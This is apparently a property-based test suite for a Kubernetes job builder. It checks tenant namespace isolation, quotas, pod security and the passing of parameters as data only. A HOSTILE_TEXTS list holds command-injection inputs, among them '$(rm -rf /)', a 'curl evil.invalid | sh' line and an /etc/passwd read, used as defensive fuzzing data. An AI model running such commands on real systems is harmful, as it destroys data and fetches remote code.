import fc from 'fast-check';
import type {
  V1Job,
  V1LimitRange,
  V1PodSpec,
  V1ResourceQuota,
} from '@kubernetes/client-node';
import {
  GPU_RESOURCE_NAME,
  RUNNER_SERVICE_ACCOUNT_NAME,
  SIMULATION_ANNOTATION_PREFIX,
  TENANT_JOBS_LABELS,
  TENANT_JOBS_MANAGED_BY,
  TENANT_LIMIT_RANGE_NAME,
  TENANT_QUOTA_NAME,
} from '../constants';
import { isCompleteEntityRef } from '../entityRefs';
import { BUILT_IN_JOB_TYPES } from '../jobTypes';
import { isValidTenantId } from '../names';
import { validateJobTypeDefinition } from '../jobTypeValidation';
import {
  allowedPrioritiesFor,
  allowedTiersFor,
  checkJobTypeAllowed,
  checkPriorityAllowed,
  checkTierAllowed,
  resolvePlanLimits,
  validateTenantPlan,
} from '../plans';
import { PRIORITY_IDS } from '../priorities';
import { parseQuantity } from '../quantity';
import { TIER_IDS, getTier } from '../tiers';
import type {
  JobParametersSchema,
  JobTypeDefinition,
  ParameterSchema,
  PriorityId,
  TenantPlan,
  TierId,
} from '../types';
import { type BuildJobContext, type BuildJobRequest, buildJob } from './job';
import { buildRunName, tenantNamespaceName } from './names';
import {
  effectiveParameters,
  isEnvVarName,
  parameterEnvName,
  parameterValueToString,
} from './parameters';
import { restrictedPodSecurityViolations } from './podSecurity';
import { buildTenantObjects } from './tenantObjects';

// Arbitrary valid submissions of the built-in job types: every parameter
// valid for its schema, any tenant, any tier and priority the type and a
// plan allow, any run id and name. Further down, the same under plans with
// arbitrary quotas, and under free-text variants of the built-ins that take
// any string (shell, YAML, unicode). Default 100 runs per property.

type Parameters = Record<string, unknown>;

function stringArbitrary(
  schema: Extract<ParameterSchema, { type: 'string' }>,
): fc.Arbitrary<string> {
  if (schema.enum) {
    return fc.constantFrom(...schema.enum);
  }
  const minLength = schema.minLength ?? 0;
  const fits = (value: string) =>
    value.length >= minLength && value.length <= schema.maxLength;
  if (schema.pattern === undefined) {
    return fc.string({ minLength, maxLength: schema.maxLength });
  }
  const pattern = new RegExp(schema.pattern, 'u');
  const generated = fc
    .stringMatching(pattern, { size: 'small' })
    .filter(value => fits(value) && pattern.test(value));
  const examples = (schema.examples ?? []).filter(
    value => fits(value) && pattern.test(value),
  );
  return examples.length > 0
    ? fc.oneof(fc.constantFrom(...examples), generated)
    : generated;
}

/** Values of a string schema; the schema's own by default. */
type StringsOf = (
  schema: Extract<ParameterSchema, { type: 'string' }>,
) => fc.Arbitrary<string>;

function scalarArbitrary(
  schema: Exclude<ParameterSchema, { type: 'array' }>,
  strings: StringsOf = stringArbitrary,
): fc.Arbitrary<string | number | boolean> {
  switch (schema.type) {
    case 'string':
      return strings(schema);
    case 'integer':
      return fc.integer({ min: schema.minimum, max: schema.maximum });
    case 'number':
      return fc.double({
        min: schema.minimum,
        max: schema.maximum,
        noNaN: true,
        noDefaultInfinity: true,
      });
    case 'boolean':
    default:
      return fc.boolean();
  }
}

function parameterArbitrary(
  schema: ParameterSchema,
  strings?: StringsOf,
): fc.Arbitrary<unknown> {
  if (schema.type === 'array') {
    const items = scalarArbitrary(schema.items, strings);
    const constraints = {
      minLength: schema.minItems ?? 0,
      maxLength: schema.maxItems,
    };
    return schema.uniqueItems
      ? fc.uniqueArray(items, constraints)
      : fc.array(items, constraints);
  }
  return scalarArbitrary(schema, strings);
}

/** Parameters valid for the schema; optional ones may be absent. */
function parametersArbitrary(
  schema: JobParametersSchema,
  strings?: StringsOf,
): fc.Arbitrary<Parameters> {
  const model: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [name, property] of Object.entries(schema.properties)) {
    model[name] = parameterArbitrary(property, strings);
  }
  return fc.record(model, { requiredKeys: [...(schema.required ?? [])] });
}

const tenantIdArbitrary = fc.stringMatching(
  /^[a-z0-9]([-a-z0-9]{0,38}[a-z0-9])?$/,
);

const namespacePatternArbitrary = fc.constantFrom(
  undefined,
  'tenant-{tenant}',
  '{tenant}-jobs',
  'tj-{tenant}-ns',
);

const runIdArbitrary = fc.oneof(
  fc.uuid(),
  fc.stringMatching(/^[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?$/),
);

const dnsLabelArbitrary = fc.stringMatching(
  /^[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?$/,
);

const entityRefArbitrary = fc
  .tuple(
    fc.constantFrom('component', 'resource', 'system', 'Component'),
    dnsLabelArbitrary,
    dnsLabelArbitrary,
  )
  .map(([kind, namespace, name]) => `${kind}:${namespace}/${name}`);

const simulationAnnotationsArbitrary = fc.dictionary(
  dnsLabelArbitrary.map(name => `${SIMULATION_ANNOTATION_PREFIX}-${name}`),
  fc.string({ maxLength: 40 }),
  { maxKeys: 3 },
);

/** A plan under which the type may run on at least one tier. */
function planArbitrary(jobType: JobTypeDefinition): fc.Arbitrary<TenantPlan> {
  const maxTiers = TIER_IDS.filter(
    maxTier => allowedTiersFor(jobType, { id: 'plan', maxTier }).length > 0,
  );
  return fc.record({
    id: fc.constantFrom('starter', 'business', 'enterprise'),
    maxTier: fc.constantFrom(...maxTiers),
    quota: fc.record({
      cpu: fc.constantFrom('16', '64'),
      memory: fc.constantFrom('64Gi', '256Gi'),
      gpu: fc.integer({ min: jobType.gpu ? 1 : 0, max: 8 }),
    }),
  });
}

interface Scenario {
  jobType: JobTypeDefinition;
  plan: TenantPlan;
  tier: TierId;
  priority: PriorityId;
  tenantId: string;
  namespacePattern: string | undefined;
  request: BuildJobRequest;
  context: BuildJobContext;
}

/** What does not depend on the job type, built once. */
const runArbitraries = {
  tenantId: tenantIdArbitrary,
  namespacePattern: namespacePatternArbitrary,
  runId: runIdArbitrary,
  submittedAt: fc.date({
    min: new Date('2000-01-01T00:00:00Z'),
    max: new Date('2999-12-31T23:59:59Z'),
    noInvalidDate: true,
  }),
  suffix: fc.stringMatching(/^[a-z0-9]{1,10}$/),
  entityRef: fc.option(entityRefArbitrary, { nil: undefined }),
  deadlineSeconds: fc.option(fc.integer({ min: 1, max: 14 * 86400 }), {
    nil: undefined,
  }),
  ttlSecondsAfterFinished: fc.option(fc.integer({ min: 0, max: 7 * 86400 }), {
    nil: undefined,
  }),
  secretRefs: fc.option(fc.array(dnsLabelArbitrary, { maxLength: 3 }), {
    nil: undefined,
  }),
  annotations: fc.option(simulationAnnotationsArbitrary, { nil: undefined }),
};

/** One job type's draw: a plan for it, its parameters and the run. */
function drawnFor(
  jobType: JobTypeDefinition,
  plan: fc.Arbitrary<TenantPlan>,
  strings?: StringsOf,
) {
  return fc.record({
    ...runArbitraries,
    jobType: fc.constant(jobType),
    plan,
    parameters: parametersArbitrary(jobType.parameterSchema, strings),
  });
}

type Drawn = ReturnType<typeof drawnFor> extends fc.Arbitrary<infer T>
  ? T
  : never;

/** Scenarios of the types drawn, on a tier and priority their plan allows. */
function scenariosOf(perType: Array<fc.Arbitrary<Drawn>>) {
  return fc.oneof(...perType).chain(drawn => {
    const { jobType, plan } = drawn;
    return fc
      .tuple(
        fc.constantFrom(...allowedTiersFor(jobType, plan)),
        fc.constantFrom(...allowedPrioritiesFor(plan)),
      )
      .map(([tier, priority]): Scenario => {
        const { parameters, tenantId, namespacePattern, runId } = drawn;
        return {
          jobType,
          plan,
          tier,
          priority,
          tenantId,
          namespacePattern,
          request: {
            tenantId,
            jobType: jobType.id,
            parameters,
            ...(drawn.entityRef ? { entityRef: drawn.entityRef } : {}),
          },
          context: {
            jobType,
            namespace: tenantNamespaceName(namespacePattern, tenantId),
            runId,
            jobName: buildRunName(
              jobType.id,
              tenantId,
              drawn.submittedAt,
              drawn.suffix,
            ),
            tier,
            priority,
            deadlineSeconds: drawn.deadlineSeconds,
            ttlSecondsAfterFinished: drawn.ttlSecondsAfterFinished,
            secretRefs: drawn.secretRefs,
            annotations: drawn.annotations,
          },
        };
      });
  });
}

// Built once per type, outside `chain`: building a `stringMatching`
// arbitrary is far slower than drawing from it.
const scenarioArbitrary: fc.Arbitrary<Scenario> = scenariosOf(
  Object.values(BUILT_IN_JOB_TYPES).map(jobType =>
    drawnFor(jobType, planArbitrary(jobType)),
  ),
);

/** Why a scalar value breaks its schema; empty when it fits. */
function scalarProblems(
  schema: Exclude<ParameterSchema, { type: 'array' }>,
  value: unknown,
): string[] {
  switch (schema.type) {
    case 'string': {
      if (typeof value !== 'string') {
        return ['not a string'];
      }
      const problems: string[] = [];
      if (value.length > schema.maxLength) {
        problems.push('too long');
      }
      if (value.length < (schema.minLength ?? 0)) {
        problems.push('too short');
      }
      if (
        schema.pattern !== undefined &&
        !new RegExp(schema.pattern, 'u').test(value)
      ) {
        problems.push('does not match the pattern');
      }
      if (schema.enum && !schema.enum.includes(value)) {
        problems.push('not in the enum');
      }
      return problems;
    }
    case 'integer':
    case 'number':
      if (typeof value !== 'number' || Number.isNaN(value)) {
        return ['not a number'];
      }
      if (schema.type === 'integer' && !Number.isInteger(value)) {
        return ['not an integer'];
      }
      return value < schema.minimum || value > schema.maximum
        ? ['out of range']
        : [];
    case 'boolean':
    default:
      return typeof value === 'boolean' ? [] : ['not a boolean'];
  }
}

/** Why parameters break their schema; empty when they fit. */
function parameterProblems(
  schema: JobParametersSchema,
  parameters: Readonly<Parameters>,
): string[] {
  const problems = (schema.required ?? [])
    .filter(name => !(name in parameters))
    .map(name => `${name}: missing`);
  for (const [name, value] of Object.entries(parameters)) {
    const property = schema.properties[name];
    if (!property) {
      problems.push(`${name}: not declared`);
    } else if (property.type === 'array') {
      const items = Array.isArray(value) ? value : [];
      if (!Array.isArray(value) || items.length > property.maxItems) {
        problems.push(`${name}: not an array of at most ${property.maxItems}`);
      }
      items.forEach((item, index) =>
        scalarProblems(property.items, item).forEach(problem =>
          problems.push(`${name}[${index}]: ${problem}`),
        ),
      );
    } else {
      scalarProblems(property, value).forEach(problem =>
        problems.push(`${name}: ${problem}`),
      );
    }
  }
  return problems;
}

function podSpecOf(job: V1Job): V1PodSpec {
  const spec = job.spec?.template.spec;
  if (!spec) {
    throw new Error('Job has no pod spec');
  }
  return spec;
}

/** Paths of every `namespace` field in an object tree. */
function namespacePaths(value: unknown, path = ''): string[] {
  if (Array.isArray(value)) {
    return value.flatMap((item, index) =>
      namespacePaths(item, `${path}[${index}]`),
    );
  }
  if (value === null || typeof value !== 'object') {
    return [];
  }
  return Object.entries(value).flatMap(([key, child]) => {
    const childPath = path ? `${path}.${key}` : key;
    return [
      ...(key.toLowerCase().includes('namespace') ? [childPath] : []),
      ...namespacePaths(child, childPath),
    ];
  });
}

const SHELLS = new Set([
  'sh',
  'bash',
  'dash',
  'ash',
  'zsh',
  'ksh',
  'csh',
  'tcsh',
  'fish',
  'busybox',
  'pwsh',
  'powershell',
  'cmd',
  'cmd.exe',
]);

function basename(path: string): string {
  return path.slice(path.lastIndexOf('/') + 1);
}

function build(scenario: Scenario): V1Job {
  return buildJob(scenario.request, scenario.context);
}

describe('buildJob properties', () => {
  it('generates only coherent scenarios', () => {
    fc.assert(
      fc.property(scenarioArbitrary, scenario => {
        expect(isValidTenantId(scenario.tenantId)).toBe(true);
        expect(checkJobTypeAllowed(scenario.jobType, scenario.plan)).toBe(
          undefined,
        );
        expect(
          checkTierAllowed(scenario.jobType, scenario.plan, scenario.tier),
        ).toBe(undefined);
        expect(checkPriorityAllowed(scenario.plan, scenario.priority)).toBe(
          undefined,
        );
        const { entityRef } = scenario.request;
        expect(entityRef === undefined || isCompleteEntityRef(entityRef)).toBe(
          true,
        );
        expect(
          parameterProblems(
            scenario.jobType.parameterSchema,
            scenario.request.parameters ?? {},
          ),
        ).toEqual([]);
      }),
    );
  });

  it('builds pods that meet the restricted Pod Security Standard', () => {
    fc.assert(
      fc.property(scenarioArbitrary, scenario => {
        const job = build(scenario);
        expect(
          restrictedPodSecurityViolations(
            podSpecOf(job),
            job.spec?.template.metadata,
          ),
        ).toEqual([]);
      }),
    );
  });

  it("keeps every Job and reference inside the tenant's namespace", () => {
    fc.assert(
      fc.property(scenarioArbitrary, scenario => {
        const job = build(scenario);
        expect(job.metadata?.namespace).toBe(
          tenantNamespaceName(scenario.namespacePattern, scenario.tenantId),
        );
        expect(namespacePaths(job)).toEqual(['metadata.namespace']);
        const pod = podSpecOf(job);
        expect(pod.serviceAccountName).toBe(RUNNER_SERVICE_ACCOUNT_NAME);
        expect(pod).not.toHaveProperty('serviceAccount');
        expect(pod.automountServiceAccountToken).toBe(false);
        expect(pod).not.toHaveProperty('nodeName');
        for (const source of pod.volumes ?? []) {
          expect(Object.keys(source).sort()).toEqual(['emptyDir', 'name']);
        }
      }),
    );
  });

  it("gives the container exactly its tier's resources and labels the run", () => {
    fc.assert(
      fc.property(scenarioArbitrary, scenario => {
        const job = build(scenario);
        const tier = getTier(scenario.tier);
        const expected: Record<string, string> = {
          cpu: tier.cpu,
          memory: tier.memory,
          ...(scenario.jobType.gpu
            ? { [GPU_RESOURCE_NAME]: String(tier.gpu) }
            : {}),
        };
        const pod = podSpecOf(job);
        expect(pod.initContainers ?? []).toEqual([]);
        expect(pod.containers).toHaveLength(1);
        const { resources } = pod.containers[0];
        expect(resources?.requests).toEqual(expected);
        expect(resources?.limits).toEqual(expected);

        const maxTier = getTier(scenario.plan.maxTier);
        for (const key of ['cpu', 'memory'] as const) {
          expect(parseQuantity(expected[key])).toBeLessThanOrEqual(
            parseQuantity(maxTier[key]) ?? -1,
          );
        }

        const labels = {
          [TENANT_JOBS_LABELS.managedBy]: TENANT_JOBS_MANAGED_BY,
          [TENANT_JOBS_LABELS.tenant]: scenario.tenantId,
          [TENANT_JOBS_LABELS.type]: scenario.jobType.id,
          [TENANT_JOBS_LABELS.priority]: scenario.priority,
          [TENANT_JOBS_LABELS.runId]: scenario.context.runId,
        };
        expect(job.metadata?.labels).toEqual(expect.objectContaining(labels));
        expect(job.spec?.template.metadata?.labels).toEqual(
          expect.objectContaining(labels),
        );
      }),
    );
  });

  it('runs the exec-form command and passes parameters as data only', () => {
    fc.assert(
      fc.property(scenarioArbitrary, scenario => {
        const job = build(scenario);
        const [container] = podSpecOf(job).containers;
        const command = container.command ?? [];
        expect(command).toEqual([...scenario.jobType.command]);
        expect(command.length).toBeGreaterThan(0);
        expect(SHELLS.has(basename(command[0]))).toBe(false);
        expect(command).not.toContain('-c');
        // The built-in types have no argument template.
        expect(container.args).toBeUndefined();

        const parameterEnv = Object.fromEntries(
          effectiveParameters(
            scenario.jobType,
            scenario.request.parameters ?? {},
          ).map(([name, value]) => [
            parameterEnvName(scenario.jobType, name),
            parameterValueToString(value),
          ]),
        );
        const env = container.env ?? [];
        for (const variable of env) {
          expect(isEnvVarName(variable.name)).toBe(true);
          expect(typeof variable.value).toBe('string');
          expect(variable).not.toHaveProperty('valueFrom');
        }
        expect(new Set(env.map(variable => variable.name)).size).toBe(
          env.length,
        );
        for (const [name, value] of Object.entries(parameterEnv)) {
          expect(env.find(variable => variable.name === name)?.value).toBe(
            value,
          );
        }
      }),
    );
  });
});

// Plans as app-config may give them: any maximum tier the type can run on,
// CPU and memory in assorted units (at least one job of the maximum tier,
// as validateTenantPlan demands), any priority cap, and for a GPU type at
// least the GPUs of one job of the maximum tier. validateTenantPlan and
// checkTierAllowed do not demand the latter yet: a plan with maxTier
// 'enterprise' (2 GPUs) and quota.gpu 1 passes both, and its ml-training
// Job on 'enterprise' asks for more GPUs than the quota holds. Such plans
// are left out here until the plan checks refuse them.
function quotaPlanArbitrary(
  jobType: JobTypeDefinition,
): fc.Arbitrary<TenantPlan> {
  const maxTiers = TIER_IDS.filter(
    maxTier => allowedTiersFor(jobType, { id: 'plan', maxTier }).length > 0,
  );
  return fc.constantFrom(...maxTiers).chain(maxTier => {
    const largest = getTier(maxTier);
    const minMillicores = Math.round((parseQuantity(largest.cpu) ?? 0) * 1000);
    const minMebibytes = Math.ceil(
      (parseQuantity(largest.memory) ?? 0) / 2 ** 20,
    );
    return fc.record(
      {
        id: fc.constantFrom('starter', 'business', 'enterprise'),
        maxTier: fc.constant(maxTier),
        maxPriority: fc.constantFrom(...PRIORITY_IDS),
        quota: fc.record(
          {
            cpu: fc
              .integer({ min: minMillicores, max: 512_000 })
              .map(m => (m % 1000 === 0 ? String(m / 1000) : `${m}m`)),
            memory: fc
              .integer({ min: minMebibytes, max: 2 ** 21 })
              .map(mi => (mi % 1024 === 0 ? `${mi / 1024}Gi` : `${mi}Mi`)),
            gpu: fc.integer({
              min: jobType.gpu ? largest.gpu ?? 1 : 0,
              max: 8,
            }),
            pods: fc.integer({ min: 1, max: 200 }),
            jobs: fc.integer({ min: 1, max: 1000 }),
          },
          // A GPU type needs GPU quota (checkJobTypeAllowed).
          {
            requiredKeys: jobType.gpu
              ? ['cpu', 'memory', 'gpu']
              : ['cpu', 'memory'],
          },
        ),
      },
      { requiredKeys: ['id', 'maxTier', 'quota'] },
    );
  });
}

const quotaScenarioArbitrary = scenariosOf(
  Object.values(BUILT_IN_JOB_TYPES).map(jobType =>
    drawnFor(jobType, quotaPlanArbitrary(jobType)),
  ),
);

// Kubernetes' own syntax of label keys and values, written out here rather
// than taken from names.ts, which the builder itself relies on.
const LABEL_NAME = /^[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?$/;
const LABEL_VALUE = /^(([A-Za-z0-9][-A-Za-z0-9_.]{0,61})?[A-Za-z0-9])?$/;
const DNS_SUBDOMAIN =
  /^(?=.{1,253}$)[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$/;

function isLabelKey(key: string): boolean {
  const slash = key.lastIndexOf('/');
  const prefix = slash >= 0 ? key.slice(0, slash) : undefined;
  const name = key.slice(slash + 1);
  return (
    (prefix === undefined || DNS_SUBDOMAIN.test(prefix)) &&
    LABEL_NAME.test(name)
  );
}

/** Why these labels (or annotations: keys only) would be refused. */
function labelProblems(
  where: string,
  labels: Record<string, string> | undefined,
  keysOnly = false,
): string[] {
  return Object.entries(labels ?? {}).flatMap(([key, value]) => [
    ...(isLabelKey(key) ? [] : [`${where}: key '${key}'`]),
    ...(keysOnly || LABEL_VALUE.test(value)
      ? []
      : [`${where}: value '${value}' of ${key}`]),
  ]);
}

/** Paths of the string leaves of `value` that contain `needle`. */
function stringPaths(value: unknown, needle: string, path = ''): string[] {
  if (typeof value === 'string') {
    return value.includes(needle) ? [path] : [];
  }
  if (Array.isArray(value)) {
    return value.flatMap((item, index) =>
      stringPaths(item, needle, `${path}[${index}]`),
    );
  }
  if (value === null || typeof value !== 'object') {
    return [];
  }
  return Object.entries(value).flatMap(([key, child]) =>
    stringPaths(child, needle, path ? `${path}.${key}` : key),
  );
}

/** A free-text value: anything, as long as it does not start with '-'. */
const FREE_TEXT_PATTERN = '^(?!-)[\\s\\S]*$';

const HOSTILE_TEXTS = [
  '$(rm -rf /)',
  '`id`',
  'x; curl evil.invalid | sh',
  'a && reboot',
  '${IFS}cat${IFS}/etc/passwd',
  '---\nkind: Pod\nmetadata:\n  name: evil',
  'a: b\n- c',
  '{{ .Values.secret }}',
  "' OR '1'='1",
  '"quoted" and \\back\\slashes',
  'line one\r\nline two',
  '#!/bin/sh\nid',
  'nul\u0000byte',
  '\u202eright-to-left',
  'ünïcödé 🦄 𝕒',
  '',
];

const SHELL_AND_YAML_CHARACTERS = [
  ...'$`;|&<>(){}[]\'"\\\n\r\t #:*?!~=%@',
  '-',
  'a',
  'é',
  '🦄',
];

const freeTextArbitrary: StringsOf = schema =>
  fc
    .oneof(
      fc.constantFrom(...HOSTILE_TEXTS),
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({
        unit: fc.constantFrom(...SHELL_AND_YAML_CHARACTERS),
        maxLength: 30,
      }),
    )
    .filter(
      value => !value.startsWith('-') && value.length <= schema.maxLength,
    );

function kebabCase(name: string): string {
  return name.replace(/([a-z0-9])([A-Z])/g, '$1-$2').toLowerCase();
}

/**
 * A built-in type as an adopter might configure it: free text where the
 * built-in has a pattern or an enum, and every parameter also passed on the
 * command line (every other one after a flag).
 */
function freeTextVariant(jobType: JobTypeDefinition): JobTypeDefinition {
  const properties = Object.fromEntries(
    Object.entries(jobType.parameterSchema.properties).map(
      ([name, schema]): [string, ParameterSchema] => [
        name,
        schema.type === 'string'
          ? {
              type: 'string',
              title: schema.title,
              maxLength: 255,
              pattern: FREE_TEXT_PATTERN,
              ...(schema.default !== undefined
                ? { default: schema.default }
                : {}),
            }
          : schema,
      ],
    ),
  );
  return {
    ...jobType,
    id: `${jobType.id}-free`,
    parameterSchema: { ...jobType.parameterSchema, properties },
    args: [
      'run',
      ...Object.keys(properties).map((name, i) =>
        i % 2 === 0
          ? { param: name, flag: `--${kebabCase(name)}` }
          : { param: name },
      ),
    ],
  };
}

const FREE_TEXT_TYPES = Object.values(BUILT_IN_JOB_TYPES).map(freeTextVariant);

const freeTextScenarioArbitrary = scenariosOf(
  FREE_TEXT_TYPES.map(jobType =>
    drawnFor(jobType, planArbitrary(jobType), freeTextArbitrary),
  ),
);

/** Each effective parameter's value as the container gets it. */
function parameterTexts(scenario: Scenario): Map<string, string> {
  return new Map(
    effectiveParameters(
      scenario.jobType,
      scenario.request.parameters ?? {},
    ).map(([name, value]) => [name, parameterValueToString(value)]),
  );
}

describe('buildJob properties: any plan, any free text', () => {
  it('generates only coherent scenarios', () => {
    for (const jobType of FREE_TEXT_TYPES) {
      expect(validateJobTypeDefinition(jobType)).toEqual([]);
    }
    fc.assert(
      fc.property(
        fc.oneof(quotaScenarioArbitrary, freeTextScenarioArbitrary),
        scenario => {
          expect(validateTenantPlan(scenario.plan)).toEqual([]);
          expect(checkJobTypeAllowed(scenario.jobType, scenario.plan)).toBe(
            undefined,
          );
          expect(
            checkTierAllowed(scenario.jobType, scenario.plan, scenario.tier),
          ).toBe(undefined);
          expect(checkPriorityAllowed(scenario.plan, scenario.priority)).toBe(
            undefined,
          );
          expect(
            parameterProblems(
              scenario.jobType.parameterSchema,
              scenario.request.parameters ?? {},
            ),
          ).toEqual([]);
        },
      ),
    );
  });

  it("stays within the plan's maximum tier and quota, and the tenant's LimitRange and ResourceQuota admit it", () => {
    fc.assert(
      fc.property(quotaScenarioArbitrary, scenario => {
        const { plan } = scenario;
        const job = build(scenario);
        const pod = podSpecOf(job);
        const [container] = pod.containers;
        const requests = container.resources?.requests ?? {};
        const limits = container.resources?.limits ?? {};
        const amount = (quantity: string | undefined) =>
          quantity === undefined ? 0 : parseQuantity(quantity) ?? NaN;
        const largest = getTier(plan.maxTier);
        const planLimits = resolvePlanLimits(plan);
        const objects = buildTenantObjects(scenario.tenantId, plan, {
          namespacePattern: scenario.namespacePattern,
        });
        const hard =
          (
            objects.find(
              o =>
                o.kind === 'ResourceQuota' &&
                o.metadata?.name === TENANT_QUOTA_NAME,
            ) as V1ResourceQuota
          ).spec?.hard ?? {};
        const containerMax =
          (
            objects.find(
              o =>
                o.kind === 'LimitRange' &&
                o.metadata?.name === TENANT_LIMIT_RANGE_NAME,
            ) as V1LimitRange
          ).spec?.limits.find(limit => limit.type === 'Container')?.max ?? {};

        const over: string[] = [];
        const atMost = (what: string, value: number, bound: number) => {
          if (!(value <= bound)) over.push(`${what}: ${value} > ${bound}`);
        };
        for (const [what, resources] of [
          ['requests', requests],
          ['limits', limits],
        ] as const) {
          for (const key of ['cpu', 'memory'] as const) {
            const value = amount(resources[key]);
            atMost(`${what}.${key} / max tier`, value, amount(largest[key]));
            atMost(
              `${what}.${key} / plan quota`,
              value,
              amount(planLimits[key]),
            );
            atMost(
              `${what}.${key} / ResourceQuota`,
              value,
              amount(hard[`${what}.${key}`]),
            );
            atMost(
              `${what}.${key} / LimitRange max`,
              value,
              amount(containerMax[key]),
            );
          }
          const gpus = amount(resources[GPU_RESOURCE_NAME]);
          atMost(`${what} GPUs / max tier`, gpus, largest.gpu ?? 0);
          atMost(`${what} GPUs / plan quota`, gpus, planLimits.gpu);
          atMost(
            `${what} GPUs / ResourceQuota`,
            gpus,
            amount(hard[`requests.${GPU_RESOURCE_NAME}`]),
          );
        }
        for (const volume of pod.volumes ?? []) {
          atMost(
            `volume ${volume.name} / max tier`,
            amount(volume.emptyDir?.sizeLimit),
            amount(largest.tmpSize),
          );
        }
        expect(over).toEqual([]);
      }),
    );
  });

  it("puts every object, the tenant's and the Job, in the tenant's namespace", () => {
    fc.assert(
      fc.property(quotaScenarioArbitrary, scenario => {
        const namespace = tenantNamespaceName(
          scenario.namespacePattern,
          scenario.tenantId,
        );
        const objects = [
          ...buildTenantObjects(scenario.tenantId, scenario.plan, {
            namespacePattern: scenario.namespacePattern,
          }),
          build(scenario),
        ];
        expect(
          objects.map(object => ({
            kind: object.kind,
            name:
              object.kind === 'Namespace' ? object.metadata?.name : namespace,
            namespace: object.metadata?.namespace,
          })),
        ).toEqual(
          objects.map(object => ({
            kind: object.kind,
            name: namespace,
            namespace: object.kind === 'Namespace' ? undefined : namespace,
          })),
        );
      }),
    );
  });

  it('labels everything with valid label keys and values', () => {
    fc.assert(
      fc.property(
        fc.oneof(quotaScenarioArbitrary, freeTextScenarioArbitrary),
        scenario => {
          const job = build(scenario);
          const template = job.spec?.template;
          const problems = [
            ...labelProblems('Job labels', job.metadata?.labels),
            ...labelProblems('pod labels', template?.metadata?.labels),
            ...labelProblems('node selector', template?.spec?.nodeSelector),
            ...labelProblems(
              'Job annotations',
              job.metadata?.annotations,
              true,
            ),
            ...labelProblems(
              'pod annotations',
              template?.metadata?.annotations,
              true,
            ),
            ...buildTenantObjects(scenario.tenantId, scenario.plan, {
              namespacePattern: scenario.namespacePattern,
            }).flatMap(object =>
              labelProblems(`${object.kind} labels`, object.metadata?.labels),
            ),
          ];
          expect(problems).toEqual([]);
          expect(job.metadata?.name).toMatch(LABEL_VALUE);
          expect(job.metadata?.labels?.[TENANT_JOBS_LABELS.runId]).toBe(
            scenario.context.runId,
          );
        },
      ),
    );
  });

  it('passes any free text (shell, YAML, unicode) as data only: one env value and one argv entry each, never command text', () => {
    fc.assert(
      fc.property(freeTextScenarioArbitrary, scenario => {
        const { jobType } = scenario;
        const job = build(scenario);
        const pod = podSpecOf(job);
        expect(
          restrictedPodSecurityViolations(pod, job.spec?.template.metadata),
        ).toEqual([]);
        expect(namespacePaths(job)).toEqual(['metadata.namespace']);

        const [container] = pod.containers;
        expect(container.command).toEqual([...jobType.command]);
        const texts = parameterTexts(scenario);
        for (const [name, text] of texts) {
          const envName = parameterEnvName(jobType, name);
          expect(
            (container.env ?? []).filter(variable => variable.name === envName),
          ).toEqual([{ name: envName, value: text }]);
        }
        const expectedArgs = (jobType.args ?? []).flatMap(arg => {
          if (typeof arg === 'string') return [arg];
          const text = texts.get(arg.param);
          if (text === undefined) return [];
          return arg.flag === undefined ? [text] : [arg.flag, text];
        });
        expect(container.args).toEqual(expectedArgs);

        // A value long enough not to occur by chance shows up in env
        // values and argv entries only.
        const dataPath =
          /^spec\.template\.spec\.containers\[0\]\.(env\[\d+\]\.value|args\[\d+\])$/;
        const elsewhere = [...texts.values()]
          .filter(text => text.length >= 8)
          .flatMap(text =>
            stringPaths(job, text).filter(path => !dataPath.test(path)),
          );
        expect(elsewhere).toEqual([]);
        expect(JSON.parse(JSON.stringify(job))).toEqual(job);
      }),
    );
  });

  it('refuses a value that would pose as an option on the command line', () => {
    fc.assert(
      fc.property(
        freeTextScenarioArbitrary,
        fc.string({ maxLength: 20 }),
        (scenario, rest) => {
          const [name] = Object.entries(
            scenario.jobType.parameterSchema.properties,
          ).find(([, schema]) => schema.type === 'string')!;
          const request = {
            ...scenario.request,
            parameters: { ...scenario.request.parameters, [name]: `-${rest}` },
          };
          expect(() => buildJob(request, scenario.context)).toThrow(
            /starts with '-' and cannot be passed as an argument/,
          );
        },
      ),
    );
  });
});
